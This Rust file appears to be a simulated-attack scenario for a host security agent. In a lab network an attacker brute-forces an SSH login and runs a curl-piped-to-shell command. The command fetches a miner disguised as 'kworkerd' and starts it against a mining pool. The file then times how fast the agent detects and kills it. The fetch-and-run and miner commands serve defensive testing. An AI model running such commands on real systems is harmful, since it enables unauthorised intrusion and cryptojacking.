//! Somebody guesses a password, logs in, and lets a script from elsewhere start a miner, which is killed with all that it
//! started.

use super::{millis, time};
use crate::laboratory::Laboratory;
use crate::line::Line;
use crate::network::{ACCOUNT, ATTACKER, HOST, Network};
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::process::Stdio;

/// Where the attacker offers a script and a miner.
const PORT: u16 = 8000;

/// What happened, each time as RFC 3339 in UTC.
#[derive(Debug)]
pub struct Killing {
    /// The attacker.
    pub address: String,
    /// When the miner was started, by the kernel's account.
    pub started: jiff::Timestamp,
    /// When the agent found it.
    pub detected: jiff::Timestamp,
    /// When it was dead.
    pub killed: jiff::Timestamp,
    /// When the collector had committed that.
    pub received: jiff::Timestamp,
    /// How many processes were hit.
    pub hit: usize,
    /// What `picket explain` tells of it.
    pub explained: String,
}

impl Killing {
    /// From the start of the miner to the finding, in milliseconds.
    pub fn time_to_detect(&self) -> f64 {
        millis(self.started, self.detected)
    }

    /// From the finding to the death of all processes, in milliseconds.
    pub fn time_to_respond(&self) -> f64 {
        millis(self.detected, self.killed)
    }
}

/// Tells the story once. `say` hears of each step.
pub fn tell(mut say: impl FnMut(&str)) -> Killing {
    let lab = Laboratory::start();
    let settings = "[process]\nsensor = \"ebpf\"\n[respond]\nmode = \"enforce\"\n";
    let mut line = Line::in_laboratory(&lab, settings);
    line.start_agent();
    let (attacker, host) = (ATTACKER[0], HOST[0]);
    say(&format!(
        "{attacker} guesses the password of {} at {host}",
        ACCOUNT.0
    ));
    for _ in 0..3 {
        assert!(!lab.login(host, ACCOUNT.0, "wrong").status.success());
    }
    offer(lab.network());
    say("it is right the fourth time, and lets a script from elsewhere start a miner");
    let url = format!("http://{attacker}:{PORT}");
    let commands = format!("curl -s {url}/script | sh\n");
    let mut session = lab.network().ssh(attacker, host, ACCOUNT.0, ACCOUNT.1);
    let output = session
        .arg(commands)
        .stdin(Stdio::null())
        .output()
        .expect("ssh starts");
    say(&format!("the attacker's shell ends with {}", output.status));

    let outcome = line.wait_for(|value| {
        value["body"]["decision"] == "applied" && value["body"]["action"]["target"]["action"] == "kill"
    });
    let wanted = &outcome["body"]["action"]["finding"];
    let finding = line.wait_for(|value| value["record"] == "finding" && value["body"]["id"] == *wanted);
    let id = wanted.as_str().expect("an id");
    let explained = line.operate(&["explain", id]).expect("it is explained");
    let killing = Killing {
        address: attacker.to_owned(),
        started: time(&finding["body"]["time"]),
        detected: time(&finding["body"]["detected"]),
        killed: time(&outcome["body"]["time"]),
        received: time(&outcome["received"]),
        hit: outcome["body"]["hits"]["hit"].as_array().map_or(0, Vec::len),
        explained,
    };
    line.end_agent(false);
    line.end_collector(false);
    killing
}

/// Serves the script and the miner, to whoever asks, until the network is gone.
fn offer(network: &Network) {
    let script = format!(
        "cd /var/tmp\ncurl -s http://{}:{PORT}/miner -o kworkerd\nchmod +x kworkerd\n\
         exec ./kworkerd --url=stratum+tcp://203.0.113.7:3333 --user=x\n",
        ATTACKER[0]
    );
    let miner = std::fs::read(crate::binary("miner")).expect("it was built");
    let listener = Network::within(&network.attacker, || {
        TcpListener::bind((ATTACKER[0], PORT)).expect("a port")
    });
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut lines = BufReader::new(stream.try_clone().expect("a socket")).lines();
            let asked = lines.next().and_then(Result::ok).unwrap_or_default();
            while lines
                .next()
                .is_some_and(|line| line.is_ok_and(|line| !line.is_empty()))
            {}
            let body = if asked.contains("/miner") {
                &miner[..]
            } else {
                script.as_bytes()
            };
            // Whoever goes away does not get it.
            let _ = write!(
                stream,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
                body.len()
            )
            .and_then(|()| stream.write_all(body));
        }
    });
}
